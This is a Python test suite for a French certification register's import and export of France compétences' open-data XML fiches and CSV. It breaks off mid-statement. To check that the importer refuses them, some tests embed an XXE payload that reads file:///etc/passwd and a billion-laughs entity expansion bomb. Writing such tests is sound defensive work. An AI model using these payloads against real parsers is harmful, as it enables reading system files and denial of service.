"""The register's open data: France compétences' XML export imported and exported back, the CSV,
an entry of our procedure as a fiche, and every kind of bad file refused or skipped in French.

data/rs-open-data-sample.xml holds 8 real fiches of France compétences' Répertoire
spécifique export (Licence Ouverte 2.0).
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from flask.testing import FlaskClient
from lxml import etree
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from engine.core.models import Instance, Organisation, RegisterEntry
from engine.register.opendata.export import (
    CSV_COLUMNS,
    XML_HEAD,
    export_csv,
    export_xml,
    register_entries,
)
from engine.register.opendata.fiche import FICHE_ORDER, moment_to_date
from engine.register.opendata.importer import (
    DEFAULT_MAX_BYTES,
    ImportRefused,
    import_fiches,
    summary,
)
from engine.register.opendata.reading import read_fiche
from engine.register.opendata.writing import fiche_xml
from engine.register.publication import publish
from engine.studio import scenario
from engine.workflow import documents
from tests.support import text_of
from tests.walk import PROCESS

SAMPLE = Path(__file__).resolve().parents[2] / "data" / "rs-open-data-sample.xml"
# The sample was exported between 15/06/2026 (its latest date) and 10/11/2026 (the end of
# RS5568, still « ACTIF Oui » in it): at this date every ACTIF of the file is still true.
SAMPLE_NOW = datetime(2026, 7, 1, 12, tzinfo=UTC)


# --- helpers ---------------------------------------------------------------------------------


def canonical(element: etree._Element) -> Any:
    """An element as nested tuples: tag and text for a leaf, tag and children otherwise."""
    children = [child for child in element if isinstance(child.tag, str)]
    if not children:
        return (element.tag, element.text or "")
    return (element.tag, [canonical(child) for child in children])


def fiches_by_numero(data: bytes | Path) -> dict[str, etree._Element]:
    root = etree.parse(str(data)) if isinstance(data, Path) else etree.fromstring(data)
    tree = root.getroot() if isinstance(root, etree._ElementTree) else root
    return {fiche.findtext("NUMERO_FICHE"): fiche for fiche in tree.findall("FICHE")}


def exported_xml(session: Session) -> bytes:
    out = io.BytesIO()
    export_xml(session, out)
    return out.getvalue()


def exported_csv(session: Session) -> list[dict[str, str]]:
    out = io.StringIO()
    export_csv(session, out)
    return list(csv.DictReader(io.StringIO(out.getvalue()), delimiter=";"))


def fiche(numero: str | None = "RS9001", intitule: str | None = "Titre", extra: str = "") -> str:
    parts = ["<FICHE>", "<ID_FICHE>1</ID_FICHE>"]
    if numero is not None:
        parts.append(f"<NUMERO_FICHE>{numero}</NUMERO_FICHE>")
    if intitule is not None:
        parts.append(f"<INTITULE>{intitule}</INTITULE>")
    parts += [extra, "<ETAT_FICHE>Publiée</ETAT_FICHE>", "</FICHE>"]
    return "".join(parts)


def write_export(folder: Path, *fiches: str, prolog: str = "", name: str = "export.xml") -> Path:
    path = folder / name
    body = "".join(fiches)
    path.write_text(
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
        f"<FICHES><VERSION_FLUX>4.1</VERSION_FLUX>{body}</FICHES>",
        encoding="utf-8",
    )
    return path


def sample_fiches(*numeros: str) -> list[str]:
    """Fiches of the sample as text, in the order asked."""
    found = fiches_by_numero(SAMPLE)
    return [etree.tostring(found[numero], encoding="unicode") for numero in numeros]


def entries(session: Session) -> dict[str, RegisterEntry]:
    session.expire_all()
    return {entry.numero: entry for entry in session.scalars(select(RegisterEntry))}


def count(session: Session) -> int:
    session.expire_all()
    return session.scalar(select(func.count()).select_from(RegisterEntry)) or 0


def imported(session: Session, path: Path, **options: Any) -> Any:
    report = import_fiches(session, path, now=options.pop("now", SAMPLE_NOW), **options)
    session.commit()
    return report


# --- the sample, round trip ------------------------------------------------------------------


def test_the_sample_exports_back_with_every_element_and_value(session: Session) -> None:
    report = imported(session, SAMPLE)
    assert (report.read, report.created, report.updated, report.unchanged) == (8, 8, 0, 0)
    assert report.skipped == [] and not report.kept_elements
    assert report.version_flux == "4.1"

    data = exported_xml(session)
    assert data.startswith(b"<?xml version='1.0' encoding='UTF-8'")
    assert etree.fromstring(data).findtext("VERSION_FLUX") == "4.1"
    original, exported = fiches_by_numero(SAMPLE), fiches_by_numero(data)
    assert sorted(exported) == sorted(original)
    for numero, element in original.items():
        # Same elements in the same order, same values, nested groups included.
        assert canonical(exported[numero]) == canonical(element), numero


def test_reimporting_the_same_file_changes_nothing(session: Session) -> None:
    imported(session, SAMPLE)
    before = {
        numero: (e.updated_at, e.content, e.statut, e.precedente_id)
        for numero, e in entries(session).items()
    }
    report = imported(session, SAMPLE)
    assert (report.created, report.updated, report.unchanged, report.links) == (0, 0, 8, 0)
    after = {
        numero: (e.updated_at, e.content, e.statut, e.precedente_id)
        for numero, e in entries(session).items()
    }
    assert after == before
    assert summary(report)[1:6] == [
        "  importées\u00a0: 0",
        "  mises à jour\u00a0: 0",
        "  inchangées\u00a0: 8",
        "  ignorées\u00a0: 0",
        "  liens de renouvellement établis\u00a0: 0",
    ]


def test_a_changed_fiche_is_updated_in_place(session: Session, tmp_path: Path) -> None:
    imported(session, SAMPLE)
    first_id = entries(session)["RS7423"].id
    [text] = sample_fiches("RS7423")
    changed = text.replace("<DUREE_ENREGISTREMENT>2<", "<DUREE_ENREGISTREMENT>4<").replace(
        "27/11/2027", "27/11/2029"
    )
    report = imported(session, write_export(tmp_path, changed))
    assert (report.created, report.updated, report.unchanged) == (0, 1, 0)
    entry = entries(session)["RS7423"]
    assert entry.id == first_id
    assert entry.content["duree_enregistrement"] == 4
    assert (
        entry.fin_validite is not None
        and moment_to_date(entry.fin_validite).isoformat() == "2029-11-27"
    )


def test_renewal_chains_are_kept(session: Session) -> None:
    report = imported(session, SAMPLE)
    assert report.links == 2
    register = entries(session)
    # RS7485 renews RS6232, which renews RS5078 (not in the file: kept by number).
    assert register["RS7485"].numero_precedent == "RS6232"
    assert register["RS7485"].precedente_id == register["RS6232"].id
    assert register["RS6232"].numero_precedent == "RS5078"
    assert register["RS6232"].precedente_id is None
    assert register["RS6604"].precedente_id == register["RS5000"].id
    assert register["RS7423"].numero_precedent is None


def test_chains_do_not_depend_on_the_order_of_the_fiches(session: Session, tmp_path: Path) -> None:
    # The renewal first, in one file…
    imported(session, write_export(tmp_path, *sample_fiches("RS7485", "RS6232"), name="a.xml"))
    register = entries(session)
    assert register["RS7485"].precedente_id == register["RS6232"].id
    # …or in two imports: the link is made when the previous fiche arrives.
    imported(session, write_export(tmp_path, *sample_fiches("RS6604"), name="b.xml"))
    assert entries(session)["RS6604"].precedente_id is None
    report = imported(session, write_export(tmp_path, *sample_fiches("RS5000"), name="c.xml"))
    assert report.links == 1
    register = entries(session)
    assert register["RS6604"].precedente_id == register["RS5000"].id


def test_nouvelles_certifications_link_the_renewal_to_its_predecessor(
    session: Session, tmp_path: Path
) -> None:
    old = fiche(
        "RS9001",
        extra="<NOUVELLES_CERTIFICATIONS><NOUVELLE_CERTIFICATION>"
        "<ID_FICHE_NOUVELLE_CERTIFICATION>RS9002</ID_FICHE_NOUVELLE_CERTIFICATION>"
        "</NOUVELLE_CERTIFICATION></NOUVELLES_CERTIFICATIONS>",
    )
    path = write_export(tmp_path, fiche("RS9002", "Renouvellement"), old)
    imported(session, path)
    register = entries(session)
    assert register["RS9002"].numero_precedent == "RS9001"
    assert register["RS9002"].precedente_id == register["RS9001"].id
    again = imported(session, path)
    assert (again.unchanged, again.updated, again.links) == (2, 0, 0)
    renewal = fiches_by_numero(exported_xml(session))["RS9002"]
    assert renewal.findtext("ANCIENNES_CERTIFICATIONS/*/ID_FICHE_ANCIENNE_CERTIFICATION") == (
        "RS9001"
    )


def test_status_category_and_dates_of_imported_fiches(session: Session) -> None:
    imported(session, SAMPLE)
    register = entries(session)
    assert register["RS6232"].statut == "echue"  # ended 25/01/2026
    assert register["RS5568"].statut == "active"
    assert register["RS6232"].source == "import"
    assert register["RS6232"].autorite_legitime is None
    # Répertoire spécifique fiches: no category (none is invented), whatever their type.
    assert register["RS5719"].categorie == "" and register["RS5719"].registre == "rs"
    assert register["RS6547"].categorie == "" and register["RS6547"].registre == "rs"
    decision = register["RS6232"].date_decision
    assert decision is not None and moment_to_date(decision).isoformat() == "2023-01-25"
    assert register["RS5719"].date_decision is None  # the fiche has no DATE_DECISION
    assert register["RS6232"].certificateurs["certificateurs"][0] == {
        "siret": "93905426800023",
        "nom": "ADXF2",
        "etat": "Actif",
        "date_modification_etat": "2025-11-27",
    }
    assert register["RS6232"].content["formacodes"] == [
        {"code": "42103", "libelle": "Diagnostic amiante"}
    ]


def test_a_fiche_past_its_end_is_expired_and_exports_as_inactive(session: Session) -> None:
    imported(session, SAMPLE, now=datetime(2026, 11, 27, tzinfo=UTC))
    assert entries(session)["RS5568"].statut == "echue"  # ended 10/11/2026
    assert fiches_by_numero(exported_xml(session))["RS5568"].findtext("ACTIF") == "Non"


def test_retiree_when_the_export_says_so(session: Session, tmp_path: Path) -> None:
    future = "<DATE_FIN_ENREGISTREMENT>31/12/2030</DATE_FIN_ENREGISTREMENT>"
    inactive = fiche("RS9001", extra=future + "<ACTIF>Non</ACTIF>")
    archived = fiche("RS9002", extra=future).replace("Publiée", "Dépubliée/Archivée")
    active = fiche("RS9003", extra=future + "<ACTIF>Oui</ACTIF>")
    imported(session, write_export(tmp_path, inactive, archived, active))
    register = entries(session)
    assert register["RS9001"].statut == "retiree"
    assert register["RS9001"].motif_retrait == (
        "Retirée selon l'export de France compétences "
        "(ACTIF «\u00a0Non\u00a0» avant la date de fin d'enregistrement)."
    )
    assert register["RS9002"].statut == "retiree"
    assert register["RS9003"].statut == "active"
    exported = fiches_by_numero(exported_xml(session))
    assert exported["RS9001"].findtext("ACTIF") == "Non"
    assert exported["RS9002"].findtext("ETAT_FICHE") == "Dépubliée/Archivée"
    assert exported["RS9003"].findtext("ACTIF") == "Oui"


def test_a_withdrawn_fiche_stays_withdrawn_after_its_end_date(
    session: Session, tmp_path: Path, client: FlaskClient
) -> None:
    """*Retirée* is a decision: neither the end date nor a later export makes it *Échue*."""
    ended = "<DATE_FIN_ENREGISTREMENT>31/12/2025</DATE_FIN_ENREGISTREMENT><ACTIF>Non</ACTIF>"
    archived = fiche("RS9101", extra=ended).replace("Publiée", "Dépubliée/Archivée")
    imported(session, write_export(tmp_path, archived))  # in July 2026, after its end
    page = text_of(client.get("/registre/RS9101"))
    assert "Certification retirée du registre le" in page
    assert (
        "Motif : Retirée selon l'export de France compétences "
        "(ETAT_FICHE « Dépubliée/Archivée »)." in page
    )
    assert "Certification échue" not in page and "Échue" not in page

    # An entry withdrawn by France compétences' decision, then its fiche imported again after
    # its end date, from an export that still says « Publiée » or already « Dépubliée ».
    valid = "<DATE_FIN_ENREGISTREMENT>31/12/2026</DATE_FIN_ENREGISTREMENT><ACTIF>Oui</ACTIF>"
    imported(session, write_export(tmp_path, fiche("RS9102", extra=valid)))
    entry = entries(session)["RS9102"]
    assert entry.statut == "active"
    motif = "Le contrôle des épreuves n'est plus assuré (article R. 6113-11 du code du travail)."
    entry.statut = "retiree"
    entry.motif_retrait = motif
    entry.content = dict(entry.content) | {"date_limite_delivrance": "2027-03-31"}
    session.commit()
    later = datetime(2027, 6, 1, 12, tzinfo=UTC)
    for etat in ("Publiée", "Dépubliée/Archivée"):
        again = fiche("RS9102", extra=valid).replace("Publiée", etat)
        imported(session, write_export(tmp_path, again), now=later)
        assert entries(session)["RS9102"].statut == "retiree"
        page = text_of(client.get("/registre/RS9102"))
        assert "Certification retirée du registre le" in page, etat
        assert f"Motif : {motif}" in page
        assert "attestations délivrées jusqu'au 31/03/2027" in page
        assert "Certification échue" not in page and "Échue" not in page


def test_elements_we_do_not_model_are_kept_and_reported(session: Session, tmp_path: Path) -> None:
    extra = "<CORRESPONDANCES><CORRESPONDANCE>RS1</CORRESPONDANCE></CORRESPONDANCES>"
    report = imported(session, write_export(tmp_path, fiche("RS9001", extra=extra)))
    assert report.created == 1
    assert dict(report.kept_elements) == {"CORRESPONDANCES": 1}
    assert summary(report)[-1] == (
        "Éléments gardés tels quels, sans être affichés, et réexportés\u00a0: CORRESPONDANCES (1 "
        "fiche)."
    )
    exported = fiches_by_numero(exported_xml(session))["RS9001"]
    assert exported.findtext("CORRESPONDANCES/CORRESPONDANCE") == "RS1"


def test_characters_xml_cannot_carry_are_dropped_from_a_whole_export(session: Session) -> None:
    """The export checks its text batch by batch, not value by value: a batch holding a
    character XML cannot carry (typed by hand) is written again value by value, and the file
    is the same as if every fiche had been checked on its own."""
    imported(session, SAMPLE)
    odd = {
        "INV00091": ("Titre\x0b à contrôle", {"objectifs_contexte": "Avant\x01après & <ici>"}),
        "INV00092": ("Titre sans souci", {"competences_attestees": "Fin de ligne\r\nsuivante"}),
        "INV00093": ("Titre \ufffe non-caractère", {"partenaires": [{"nom": "Parte\uffffnaire"}]}),
    }
    for numero, (intitule, content) in odd.items():
        session.add(
            RegisterEntry(
                numero=numero,
                intitule=intitule,
                categorie="C",
                certificateurs={"certificateurs": [{"nom": "Certif\x1f"}]},
                content=content,
            )
        )
    session.commit()
    data = exported_xml(session)
    found = fiches_by_numero(data)  # lxml reads it: nothing XML forbids is left
    assert len(found) == 8 + 3
    assert found["INV00091"].findtext("INTITULE") == "Titre à contrôle"
    assert found["INV00091"].findtext("OBJECTIFS_CONTEXTE") == "Avantaprès & <ici>"
    assert found["INV00092"].findtext("CAPACITES_ATTESTEES") == "Fin de ligne\r\nsuivante"
    assert found["INV00093"].findtext("PARTENAIRES/PARTENAIRE/NOM_PARTENAIRE") == "Partenaire"
    assert found["INV00093"].findtext("CERTIFICATEURS/CERTIFICATEUR/NOM_CERTIFICATEUR") == "Certif"
    one_by_one = "".join("\n  " + fiche_xml(entry) for entry in register_entries(session))
    assert data == (XML_HEAD + one_by_one + "\n</FICHES>").encode()


def test_an_export_left_midway_leaves_the_session_usable(session: Session) -> None:
    """A writer that fails halfway (a full disk) stops the reading, on PostgreSQL its thread
    too: the session serves the next query."""
    imported(session, SAMPLE)
    first = [entry.numero for entry in sorted(entries(session).values(), key=lambda e: e.id)]
    read = register_entries(session, batch=2)
    assert [next(read).numero for _ in range(3)] == first[:3]
    read.close()  # type: ignore[attr-defined]
    assert count(session) == 8


# --- CSV -------------------------------------------------------------------------------------


def test_csv_has_a_header_and_one_row_per_entry(session: Session) -> None:
    imported(session, SAMPLE)
    out = io.StringIO()
    assert export_csv(session, out) == 8
    lines = out.getvalue().splitlines()
    assert lines[0] == ";".join(header for header, _read in CSV_COLUMNS)
    rows = {row["numero"]: row for row in exported_csv(session)}
    assert len(rows) == 8
    row = rows["RS6232"]
    assert row["intitule"].startswith("Repérage de l’amiante")
    assert row["statut"] == "Échue"
    assert row["categorie"] == ""
    assert row["certificateurs"] == "ADXF2 | ADX FORMATION | ADX FORMATION"
    assert row["siret_certificateurs"] == "93905426800023 | 84210466300039 | 84210466300013"
    assert (row["date_decision"], row["date_fin_enregistrement"]) == ("2023-01-25", "2026-01-25")
    assert row["duree_enregistrement"] == "3"
    assert row["anciennes_certifications"] == "RS5078"
    assert row["nouvelles_certifications"] == "RS7485"
    assert row["formacodes"] == "42103"
    assert row["voies_acces"] == "Formation continue | Candidature individuelle"
    # A cell a spreadsheet would run as a formula (« - Analyser… ») is kept as text.
    assert row["competences_attestees"].startswith("'- Analyser la commande")
    assert rows["RS5719"]["categorie_libelle"] == ""


# --- an entry of our procedure ---------------------------------------------------------------


def recensed(session: Session, upload_dir: Path, name: str) -> RegisterEntry:
    """The register entry of a dossier the scenario `name` brings to « Recensée »."""
    organisations = {o.kind: o for o in session.scalars(select(Organisation))}
    [walk] = [s for s in scenario.load_scenarios(PROCESS) if s.name == name]
    store = documents.DocumentStore(upload_dir, 2 * 1024 * 1024)
    result = scenario.run(session, store, walk, organisations)
    assert result.passed, result.message
    instance = session.get(Instance, result.instance_id)
    assert instance is not None and instance.status_label == "Recensée"
    # What the procedure's publication does (directly or from its job): idempotent.
    deliberation = next(step.data for step in walk.steps if step.task == "deliberer")
    entry = publish(session, instance, deliberation)
    session.commit()
    return entry


def test_an_entry_published_by_the_procedure_exports_as_a_fiche(
    session: Session, upload_dir: Path, tmp_path: Path
) -> None:
    entry = recensed(session, upload_dir, "mandataire")
    data = exported_xml(session)
    element = fiches_by_numero(data)[entry.numero]
    tags = [child.tag for child in element]
    assert tags == [tag for tag in FICHE_ORDER if tag in tags]  # the export's order
    assert {"CATEGORIE", "AUTORITE_LEGITIME"}.isdisjoint(tags)
    today = moment_to_date(datetime.now(UTC)).strftime("%d/%m/%Y")
    assert element.findtext("INTITULE", "").startswith("Conduite en sécurité des plates-formes")
    assert element.findtext("ETAT_FICHE") == "Publiée"
    assert element.findtext("ACTIF") == "Oui"
    assert element.findtext("DATE_DECISION") == today
    # Fiches « sur demande » of France compétences have neither (RS6232 of the sample).
    assert element.find("DATE_DE_PUBLICATION") is None and element.find("DATE_EFFET") is None
    assert element.findtext("DUREE_ENREGISTREMENT") == "5"
    assert element.findtext("DATE_FIN_ENREGISTREMENT") == today[:6] + str(int(today[6:]) + 5)
    assert element.findtext("TYPE_ENREGISTREMENT") == "Enregistrement sur demande"
    certifier = element.find("CERTIFICATEURS/CERTIFICATEUR")
    assert certifier is not None
    assert certifier.findtext("NOM_CERTIFICATEUR") == "Bâtiment Sécurité Certification"
    assert certifier.findtext("SIRET_CERTIFICATEUR") == "79876543200035"
    assert element.findtext("CAPACITES_ATTESTEES", "").startswith("Vérifier l'adéquation")
    assert element.findtext("OBJECTIFS_CONTEXTE", "").startswith("L'employeur ne peut confier")
    assert element.findtext("PREREQUIS_VALIDATION_CERTIFICATION", "").startswith("Avoir 18 ans")
    assert [code.text for code in element.iterfind("CODES_ROME/ROME/CODE")] == [
        "F1604",
        "N1101",
    ]
    assert [code.text for code in element.iterfind("CODES_NSF/NSF/CODE")] == ["230", "311"]
    assert element.findtext("FORMACODES/FORMACODE/CODE") == "31795"
    ways = {tag: element.findtext(f"{tag}/ACTIF") for tag in FICHE_ORDER if "SI_JURY" in tag}
    assert ways == {
        "SI_JURY_FI": "Non",
        "SI_JURY_FC": "Oui",
        "SI_JURY_CQ": "Non",
        "SI_JURY_CL": "Oui",
        "SI_JURY_VAE": "Non",
    }
    # A valid fiche by our own import's rules.
    assert read_fiche(element).numero == entry.numero

    row = next(row for row in exported_csv(session) if row["numero"] == entry.numero)
    assert row["categorie"] == "B"
    assert row["autorite_legitime"] == (
        "Commission paritaire nationale de l'emploi du bâtiment "
        "(mandat donné à Certif'Pro Formation)"
    )
    assert row["modalites_evaluation"].startswith("Test théorique")

    # Our own export imported back: the procedure's entry is never replaced by an import.
    path = tmp_path / "nous.xml"
    path.write_bytes(data)
    report = imported(session, path)
    assert report.created == 0
    assert [skipped.message for skipped in report.skipped] == [
        f"Fiche {entry.numero} ignorée — élément NUMERO_FICHE\u00a0: ce numéro est celui d'une "
        "certification publiée par la procédure de l'Inventaire de cette plateforme, que "
        "l'import ne remplace pas."
    ]


def test_an_older_entry_of_ours_still_exports_its_codes_and_ways(session: Session) -> None:
    moment = datetime(2025, 3, 10, 9, tzinfo=UTC)
    session.add(
        RegisterEntry(
            numero="INV00042",
            intitule="Habilitation ancienne",
            categorie="A",
            certificateurs={"certificateurs": [{"nom": "Organisme", "siret": None}]},
            content={
                "codes_rome": "F1604, N1101",
                "voies_acces": ["vae"],
                "competences_attestees": "Souder.",
                # What the publication stored then for questions its form never asked.
                "validation_partielle": False,
                "existence_partenaires": False,
                "etat_fiche": "Publiée",
                "date_de_publication": "2025-03-10",
            },
            date_decision=moment,
            debut_validite=moment,
            fin_validite=moment.replace(year=2028),
        )
    )
    session.commit()
    element = fiches_by_numero(exported_xml(session))["INV00042"]
    assert [code.text for code in element.iterfind("CODES_ROME/ROME/CODE")] == [
        "F1604",
        "N1101",
    ]
    assert element.findtext("SI_JURY_VAE/ACTIF") == "Oui"
    assert element.findtext("SI_JURY_FI/ACTIF") == "Non"
    assert element.findtext("DUREE_ENREGISTREMENT") == "3"
    assert element.findtext("CERTIFICATEURS/CERTIFICATEUR/NOM_CERTIFICATEUR") == "Organisme"
    assert element.find("CERTIFICATEURS/CERTIFICATEUR/SIRET_CERTIFICATEUR") is None
    assert element.findtext("CAPACITES_ATTESTEES") == "Souder."
    # No « Non » for what was never asked; the dates of an « enregistrement sur demande ».
    for absent in ("VALIDATION_PARTIELLE", "EXISTENCE_PARTENAIRES", "DATE_DE_PUBLICATION"):
        assert element.find(absent) is None, absent
    assert element.findtext("DATE_DECISION") == "10/03/2025"


# --- bad files -------------------------------------------------------------------------------


def refused(session: Session, path: Path, **options: Any) -> str:
    with pytest.raises(ImportRefused) as caught:
        import_fiches(session, path, now=SAMPLE_NOW, **options)
    session.rollback()
    assert count(session) == 0  # nothing half-imported
    return caught.value.user_message


def test_an_external_entity_is_refused(session: Session, tmp_path: Path) -> None:
    prolog = '<!DOCTYPE FICHES [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    path = write_export(tmp_path, fiche("RS9001", "&xxe;"), prolog=prolog)
    assert refused(session, path) == (
        "Le fichier «\u00a0export.xml\u00a0» déclare une DTD (<!DOCTYPE>)\u00a0: les DTD et les "
        "entités XML "
        "sont refusées. Aucune fiche n'a été importée."
    )


def test_an_entity_expansion_bomb_is_refused(session: Session, tmp_path: Path) -> None:
    entities = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    entities += [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    prolog = f"<!DOCTYPE FICHES [{''.join(entities)}]>"
    path = write_export(tmp_path, fiche("RS9001", "&lol9;"), prolog=prolog)
    assert "les DTD et les entités XML sont refusées" in refused(session, path)


def test_a_file_over_the_configured_limit_is_refused(session: Session) -> None:
    assert refused(session, SAMPLE, max_bytes=100 * 1024) == (
        "Le fichier «\u00a0rs-open-data-sample.xml\u00a0» fait 0,2 Mo\u00a0: l'import accepte au "
        "plus "
        "0,1 Mo. Aucune fiche n'a été importée."
    )


def test_a_200_mb_file_is_refused_before_it_is_read(session: Session, tmp_path: Path) -> None:
    path = tmp_path / "enorme.xml"
    with path.open("wb") as sparse:  # 200 MB of holes: nothing written, nothing to parse
        sparse.truncate(200 * 1024 * 1024)
    assert path.stat().st_size > DEFAULT_MAX_BYTES
    # Read, it would be refused as « not well-formed »: the size answered first.
    assert refused(session, path) == (
        "Le fichier «\u00a0enorme.xml\u00a0» fait 200 Mo\u00a0: l'import accepte au plus 150 Mo. "
        "Aucune fiche n'a été importée."
    )


def test_malformed_xml_is_refused_whole(session: Session, tmp_path: Path) -> None:
    # More valid fiches than one batch before the fault: those already written are undone.
    valid = [fiche(f"RS{9000 + n}") for n in range(600)]
    path = write_export(tmp_path, *valid, "<FICHE><NUMERO_FICHE>RS1</FICHE>")
    message = refused(session, path)
    assert message.startswith(
        "Le fichier «\u00a0export.xml\u00a0» n'est pas un XML bien formé (ligne 1)"
    )
    assert message.endswith("Aucune fiche n'a été importée.")


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "n'est pas un XML bien formé"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "n'est pas un XML bien formé"),
        (
            b"<html><body>Erreur</body></html>",
            "n'est pas un export des fiches de France compétences\u00a0: l'élément racine est "
            "«\u00a0html\u00a0», «\u00a0FICHES\u00a0» est attendu.",
        ),
    ],
)
def test_what_is_not_an_export_is_refused(
    session: Session, tmp_path: Path, content: bytes, expected: str
) -> None:
    path = tmp_path / "export.xml"
    path.write_bytes(content)
    assert expected in refused(session, path)


def test_a_missing_file_is_refused(session: Session, tmp_path: Path) -> None:
    assert (
        refused(session, tmp_path / "absent.xml")
        == "Le fichier «\u00a0absent.xml\u00a0» est introuvable."
    )


def test_invalid_fiches_are_skipped_with_their_number_and_element(
    session: Session, tmp_path: Path
) -> None:
    path = write_export(
        tmp_path,
        fiche("RS9001"),
        fiche(None),
        fiche("RS9003", None),
        fiche("RS9004", extra="<DATE_DECISION>31/02/2023</DATE_DECISION>"),
        fiche("RS9005", extra="<DATE_FIN_ENREGISTREMENT>2030-01-31</DATE_FIN_ENREGISTREMENT>"),
        fiche("RS9006", extra="<ACTIF>Peut-être</ACTIF>"),
        fiche(
            "RS9007",
            extra="<CERTIFICATEURS><CERTIFICATEUR><NOM_CERTIFICATEUR>X</NOM_CERTIFICATEUR>"
            "<DATE_DERNIERE_MODIFICATION_ETAT>00/01/2024</DATE_DERNIERE_MODIFICATION_ETAT>"
            "</CERTIFICATEUR></CERTIFICATEURS>",
        ),
        fiche("RS9008", extra="<DUREE_ENREGISTREMENT>trois</DUREE_ENREGISTREMENT>"),
        fiche("RS9001", "Doublon"),
        fiche("RS 9010"),
        fiche("RS9011", extra="<INTITULE>Deux fois</INTITULE>"),
        fiche("RS9012", "x" * 501),
        fiche("RS9013"),
    )
    report = imported(session, path)
    assert (report.read, report.created, len(report.skipped)) == (13, 2, 11)
    assert [skipped.message for skipped in report.skipped] == [
        "Fiche n° 2 du fichier (sans NUMERO_FICHE) ignorée — élément NUMERO_FICHE\u00a0: "
        "l'élément est obligatoire et manque ou est vide.",
        "Fiche RS9003 ignorée — élément INTITULE\u00a0: l'élément est obligatoire et manque ou est "
        "vide.",
        "Fiche RS9004 ignorée — élément DATE_DECISION\u00a0: «\u00a031/02/2023\u00a0» n'est pas "
        "une date qui "
        "existe.",
        "Fiche RS9005 ignorée — élément DATE_FIN_ENREGISTREMENT\u00a0: «\u00a02030-01-31\u00a0» "
        "n'est pas une "
        "date au format JJ/MM/AAAA.",
        "Fiche RS9006 ignorée — élément ACTIF\u00a0: «\u00a0Peut-être\u00a0» n'est ni "
        "«\u00a0Oui\u00a0» ni «\u00a0Non\u00a0».",
        "Fiche RS9007 ignorée — élément "
        "CERTIFICATEURS/CERTIFICATEUR/DATE_DERNIERE_MODIFICATION_ETAT\u00a0: "
        "«\u00a000/01/2024\u00a0» n'est "
        "pas une date qui existe.",
        "Fiche RS9008 ignorée — élément DUREE_ENREGISTREMENT\u00a0: «\u00a0trois\u00a0» n'est pas "
        "un nombre "
        "entier.",
        "Fiche RS9001 ignorée — élément NUMERO_FICHE\u00a0: ce numéro est déjà celui de la fiche "
        "n° 1 du fichier.",
        "Fiche RS 9010 ignorée — élément NUMERO_FICHE\u00a0: «\u00a0RS 9010\u00a0» n'est pas un "
        "numéro de "
        "fiche (lettres et chiffres, 20 caractères au plus).",
        "Fiche RS9011 ignorée — élément INTITULE\u00a0: l'élément apparaît plusieurs fois dans la "
        "fiche.",
        "Fiche RS9012 ignorée — élément INTITULE\u00a0: l'intitulé dépasse 500 caractères.",
    ]
    assert sorted(entries(session)) == ["RS9001", "RS9013"]
    assert entries(session)["RS9001"].intitule == "Titre"  # the first of the two


# --- the command line ------------------------------------------------------------------------


@pytest.fixture
def cli(database_url: str, tmp_path: Path) -> Any:
    from web.cli import main

    environment = {
        "INVENTAIRE_DATABASE_URL": database_url,
        "INVENTAIRE_SECRET_KEY": "test",
        "INVENTAIRE_UPLOAD_DIR": str(tmp_path / "pieces"),
    }

    def invoke(*args: str) -> Any:
        return CliRunner().invoke(main, list(args), env=environment)

    return invoke


def test_cli_imports_and_exports_the_register(cli: Any, session: Session, tmp_path: Path) -> None:
    result = cli("register", "import", str(SAMPLE))
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[:6] == [
        "Import de «\u00a0rs-open-data-sample.xml\u00a0» (VERSION_FLUX 4.1)\u00a0: 8 fiches lues.",
        "  importées\u00a0: 8",
        "  mises à jour\u00a0: 0",
        "  inchangées\u00a0: 0",
        "  ignorées\u00a0: 0",
        "  liens de renouvellement établis\u00a0: 2",
    ]
    assert count(session) == 8
    again = cli("register", "import", str(SAMPLE))
    assert "  inchangées\u00a0: 8" in again.stdout.splitlines()

    xml = cli("register", "export", "--format", "xml")
    assert xml.exit_code == 0, xml.output
    assert sorted(fiches_by_numero(xml.stdout_bytes)) == sorted(fiches_by_numero(SAMPLE))
    assert xml.stderr == "8 fiches exportées (XML).\n"

    target = tmp_path / "registre.csv"
    written = cli("register", "export", "--format", "csv", "--output", str(target))
    assert written.exit_code == 0, written.output
    lines = target.read_text(encoding="utf-8").splitlines()
    assert lines[0].startswith("numero;intitule;statut;registre;registre_libelle;categorie;")
    assert len(lines) == 9
    assert [path.name for path in tmp_path.iterdir() if path.name.startswith(".export-")] == []
    target.chmod(0o640)
    cli("register", "export", "--format", "xml", "-o", str(target))
    assert target.stat().st_mode & 0o777 == 0o640  # replaced, its permissions kept
    assert len(fiches_by_numero(target)) == 8


def test_cli_reports_skipped_fiches(cli: Any, tmp_path: Path) -> None:
    path = write_export(tmp_path, fiche("RS9001"), fiche("RS9002", None))
    result = cli("register", "import", str(path))
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[4:] == [
        "  ignorées\u00a0: 1",
        "  liens de renouvellement établis\u00a0: 0",
        "Fiches ignorées\u00a0:",
        "  Fiche RS9002 ignorée — élément INTITULE\u00a0: l'élément est obligatoire et manque ou "
        "est vide.",
    ]


def test_cli_refuses_a_bad_file_with_exit_code_2(
    cli: Any, session: Session, tmp_path: Path
) -> None:
    prolog = '<!DOCTYPE FICHES [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    result = cli("register", "import", str(write_export(tmp_path, fiche(), prolog=prolog)))
    assert result.exit_code == 2
    assert "déclare une DTD (<!DOCTYPE>)" in result.stderr
    assert "Traceback" not in result.output

    big = tmp_path / "gros.xml"
    big.write_bytes(SAMPLE.read_bytes())
    limited = cli("register", "import", "--max-size", "1", str(big))
    assert limited.exit_code == 0  # 0,2 Mo under 1 Mo
    oversized = tmp_path / "enorme.xml"
    with oversized.open("wb") as sparse:
        sparse.truncate(200 * 1024 * 1024)
    result = cli("register", "import", str(oversized))
    assert result.exit_code == 2
    assert result.stderr == (
